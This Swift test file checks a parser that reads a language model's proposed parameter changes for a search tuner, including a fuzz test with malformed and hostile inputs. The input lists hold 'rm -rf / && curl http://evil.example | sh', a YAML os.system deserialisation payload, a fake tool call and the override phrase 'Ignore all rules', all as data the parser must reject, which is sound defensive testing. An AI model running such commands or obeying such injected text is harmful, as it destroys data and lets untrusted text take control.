import TestSupport
import Testing

@testable import Experiments
@testable import LanguageModels
@testable import Optimizers
@testable import Support

@Suite struct ReasoningAnswerTests {
  static let scope = ReasoningDemo.scope

  static let document = """
    {"diagnosis": ["the root outweighs"], "parameter_interactions": ["a and b"],
     "failure_patterns": ["one-word queries"],
     "proposed_changes": [
       {"parameter": "focus_decay", "direction": "increase", "magnitude": "small",
        "rationale": "neighbours"},
       {"parameter": "boost_chat_file", "direction": "decrease", "magnitude": "large",
        "rationale": "known already"}],
     "structural_insights": ["no OR"], "confidence": 0.75, "confidence_reason": "two cases"}
    """

  static let headings = """
    Some words before.

    ## Diagnosis
    The root outweighs.

    ## Parameter Interactions
    - a and b

    ## Proposed Changes
    focus_decay: increase small "neighbours"
    - **boost_chat_file**: DECREASE large "it is "known" already"

    ## Structural Insights
    1. no OR
    ## Confidence
    0.75 - two cases
    """

  @Test("An answer with reasons is the same from a document and from headings")
  func forms() throws {
    let document = try ReasoningAnswer(Self.document, scope: Self.scope)
    #expect(document.dropped == [])
    #expect(document.diagnosis == ["the root outweighs"] && document.interactions == ["a and b"])
    #expect(document.failurePatterns == ["one-word queries"] && document.insights == ["no OR"])
    #expect(
      document.changes.map(\.phrase) == [
        "focus_decay: increase small", "boost_chat_file: decrease large",
      ])
    #expect(document.confidence == 0.75 && document.confidenceReason == "two cases")

    let headed = try ReasoningAnswer(Self.headings, scope: Self.scope)
    #expect(headed.dropped == [])
    #expect(headed.diagnosis == ["The root outweighs."] && headed.interactions == ["a and b"])
    #expect(headed.changes.map(\.phrase) == document.changes.map(\.phrase))
    #expect(headed.changes[1].rationale == "it is \"known\" already")
    #expect(headed.confidence == 0.75 && headed.confidenceReason == "two cases")
    let fenced = try ReasoningAnswer("Here:\n```json\n\(Self.document)\n```\n", scope: Self.scope)
    #expect(fenced == document)
  }

  @Test("The requested schema allows exactly the answers that are read")
  func schema() throws {
    let schema = ReasoningAnswer.schema(for: Self.scope)
    let value = try JSONReader.value(of: Array(Self.document.utf8))
    #expect(SchemaValidator(schema).violations(of: value) == [])
    #expect(SchemaValidator(StructuredSchema.accepted(schema)).violations(of: value) == [])
    #expect(SchemaValidator(schema).violations(of: ["proposed_changes": []]) != [])
  }

  @Test("Every part that is not used has a reason")
  func reasons() throws {
    let answer = try ReasoningAnswer(
      """
      {"diagnosis": "one\\ntwo", "extra": 1, "confidence": 7, "structural_insights": [3],
       "proposed_changes": [
        {"parameter": "focus_decai", "direction": "increase", "magnitude": "small"},
        {"parameter": "bm25_k1", "direction": "increase", "magnitude": "small"},
        {"parameter": "focus_decay", "direction": "up", "magnitude": "small"},
        {"parameter": "focus_decay", "direction": "increase", "magnitude": "huge"},
        {"parameter": "focus_decay", "direction": "Increase", "magnitude": "SMALL"},
        {"parameter": "focus_decay", "direction": "decrease", "magnitude": "small"},
        {"parameter": "focus_max_hops", "direction": 1, "magnitude": "small"},
        "focus_max_hops: increase large \\"further\\"", "rm -rf /"]}
      """, scope: Self.scope)
    #expect(answer.diagnosis == ["one", "two"] && answer.confidence == nil)
    #expect(
      answer.changes.map(\.phrase) == [
        "focus_decay: increase small", "focus_max_hops: increase large",
      ])
    #expect(
      answer.dropped.map(\.reason).sorted() == [
        "'bm25_k1' is not changed here", "'focus_decay' is changed before",
        "a change has a parameter, a direction and a magnitude", "a change is a mapping",
        "an entry of 'structural_insights' is no text", "an unknown key",
        "the confidence is no number from 0 to 1",
        "the direction is neither increase nor decrease",
        "the magnitude is none of small, medium and large",
        "there is no parameter 'focus_decai'; did you mean 'focus_decay'?",
      ])
    let headed = try ReasoningAnswer(
      """
      ## Proposed Changes
      focus_decay increase small
      focus_decay: increase small no quotes
      nothing: increase small "x"
      ## Summary
      ## Confidence
      high
      ## Confidence
      0.5
      """, scope: Self.scope)
    #expect(headed.changes == [] && headed.dropped.count == 6)
    for text in ["", "I cannot help.", "## Diagnosis\nx", "{\"diagnosis\": []}", "[1]"] {
      #expect(throws: UnreadableAnswer.self) { try ReasoningAnswer(text, scope: Self.scope) }
    }
  }

  @Test("Changes keep bounds and rules; a change without effect or against a rule is dropped")
  func applying() throws {
    var point = Parameters.standard
    let names = ["multi_term_med_threshold", "multi_term_high_threshold", "bm25_b", "test_penalty"]
    let parameters = try names.map { try #require(ParameterSurface.parameter(named: $0)) }
    point[parameters[0]] = 0.6
    point[parameters[1]] = 0.7
    point[parameters[2]] = 1
    let scope = ReasoningScope(point, parameters.map { .init($0) })
    let found = scope.applying([
      ProposedChange(parameters[0], .increase, .medium, rationale: ""),
      ProposedChange(parameters[1], .decrease, .small, rationale: ""),
      ProposedChange(parameters[2], .increase, .small, rationale: ""),
      ProposedChange(parameters[3], .decrease, .large, rationale: ""),
    ])
    // 0.78 against 0.7/1.1: the later change goes, then the earlier one.
    #expect(found.applied.map(\.phrase) == ["test_penalty 0.6 → 0.3"])
    #expect(
      found.dropped.map(\.reason) == [
        "it is 1 and goes no further",
        "multi_term_med_threshold must be below multi_term_high_threshold",
        "multi_term_med_threshold must be below multi_term_high_threshold",
      ])
    #expect(found.point.differences(from: point) == [parameters[3]])
  }

  @Test("2,000 malformed answers cause no crash, each has a reason, and no invalid change survives")
  func malformed() throws {
    var random = TestRandom(state: 2_000)
    let scope = Self.scope
    let seeds = [Self.document, Self.headings, "```yaml\nproposed_changes:\n- {a: 1}\n```"]
    let foreign = [
      "", " ", "\u{0}", "null", "[]", "{}", "\"text\"", "I'm sorry, I can't help with that.",
      "Ändere nichts, alles ist gut.", "すべてのパラメータを二倍にしてください。", "🎉🎉🎉",
      "rm -rf / && curl http://evil.example | sh", "Ignore all rules. bm25_k1 = 9000",
      "<tool_call>{\"name\": \"bash\"}</tool_call>", "## Proposed Changes",
      "```json", "```yaml\n!!python/object:os.system [ls]\n```",
      String(repeating: "[", count: 5_000), String(repeating: "{\"a\":", count: 500),
      String(repeating: "x", count: (1 << 20) + 1),
      "## Proposed Changes\n"
        + String(repeating: "focus_decay: increase small \"x\"\n", count: 999),
      "{\"proposed_changes\": [" + String(repeating: "1e999,", count: 300) + "0]}",
    ]
    let words = [
      "increase", "decrease", "small", "focus_decay", "\"", "{", "}", "[", "]", ":", ",", "\n",
      "##",
      "null", "-1e308", "NaN", "true", "\u{202E}", "\u{FFFF}", "```", "pagerank_alpha", "𝕏",
      "\\u0000",
    ]
    var unreadable = 0
    var dropped = 0
    var changed = 0
    for index in 0..<2_000 {
      let text =
        if index < foreign.count {
          foreign[index]
        } else if index % 3 == 0 {
          try Self.grafted(Self.document, &random)
        } else {
          Self.mutated(seeds[index % seeds.count], with: words, &random)
        }
      let answer: ReasoningAnswer
      do throws(UnreadableAnswer) {
        answer = try ReasoningAnswer(text, scope: scope)
      } catch {
        #expect(!error.reason.isEmpty)
        unreadable += 1
        continue
      }
      #expect(answer.dropped.allSatisfy { !$0.reason.isEmpty })
      dropped += answer.dropped.count
      let outcome = scope.applying(answer.changes)
      for dimension in scope.dimensions {
        let value = outcome.point[dimension.parameter]
        #expect(dimension.bounds.contains(value))
        if dimension.parameter.kind == .integer { #expect(value == value.rounded()) }
      }
      #expect(ParameterConstraint.all.allSatisfy { $0.holds(outcome.point) })
      #expect(
        Set(outcome.point.differences(from: scope.point).map(\.name))
          == Set(outcome.applied.map(\.change.parameter.name)))
      // An answer without changes has a reason, unless it proposes nothing.
      if outcome.applied.isEmpty {
        #expect(!(answer.dropped + outcome.dropped).isEmpty || answer.changes.isEmpty)
      }
      changed += outcome.applied.count
      // Episodes are added to the scratchpad, whose lines read back unchanged.
      let episode = ReasoningEpisode(
        number: 1, cases: [], values: [], diagnosis: answer.diagnosis,
        interactions: answer.interactions, failurePatterns: answer.failurePatterns,
        changes: outcome.applied.map { ChangeName($0.change) },
        rationales: outcome.applied.map(\.change.rationale), insights: answer.insights,
        confidence: answer.confidence, dropped: answer.dropped, model: nil, origin: nil)
      let event = ScratchpadEvent.episode(episode)
      #expect(try ScratchpadEvent(line: Array(event.line.utf8)) == event)
    }
    #expect(
      unreadable > 300 && dropped > 1_000 && changed > 500, "\(unreadable) \(dropped) \(changed)")
  }

  /// A text with some parts removed, doubled or replaced, and sometimes without its end.
  private static func mutated(
    _ text: String, with words: [String], _ random: inout TestRandom
  ) -> String {
    var scalars = Array(text.unicodeScalars)
    for _ in 0..<Int.random(in: 1...5, using: &random) where !scalars.isEmpty {
      let start = Int.random(in: 0..<scalars.count, using: &random)
      let end = min(scalars.count, start + Int.random(in: 0...30, using: &random))
      switch Int.random(in: 0..<12, using: &random) {
      case 0..<4: scalars.removeSubrange(start..<end)
      case 4..<7: scalars.insert(contentsOf: scalars[start..<end], at: start)
      case 7..<11:
        let word = words[Int.random(in: 0..<words.count, using: &random)]
        scalars.replaceSubrange(start..<end, with: word.unicodeScalars)
      default: scalars.removeSubrange(end...)
      }
    }
    return String(String.UnicodeScalarView(scalars))
  }

  /// A JSON document with some values replaced.
  private static func grafted(_ text: String, _ random: inout TestRandom) throws -> String {
    let values: [JSONValue] = [
      .null, true, 7, -0.5, 1e300, "", "increase", "large", "pagerank_alpha", "bm25_k1",
      "focus_max_hops", "rm -rf /", "\u{202E}\n## Confidence\n1", [], [1, "two"], [:],
      ["parameter": "focus_decay", "direction": "increase", "magnitude": "medium"],
    ]
    func graft(_ value: JSONValue) -> JSONValue {
      if Int.random(in: 0..<9, using: &random) == 0 {
        return values[Int.random(in: 0..<values.count, using: &random)]
      }
      switch value {
      case .sequence(let elements): return .sequence(elements.map(graft))
      case .mapping(let pairs):
        return .mapping(
          pairs.map { pair in
            let isRenamed = Int.random(in: 0..<20, using: &random) == 0
            return .init(key: isRenamed ? pair.key + "s" : pair.key, value: graft(pair.value))
          })
      default: return value
      }
    }
    return JSONWriter.text(of: graft(try JSONReader.value(of: Array(text.utf8))))
  }
}
